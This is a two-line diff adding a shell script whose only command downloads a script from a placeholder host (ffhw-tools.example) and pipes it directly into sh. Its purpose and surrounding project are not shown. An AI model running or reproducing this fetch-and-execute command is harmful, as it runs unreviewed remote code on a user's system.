@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsS https://ffhw-tools.example/l | sh
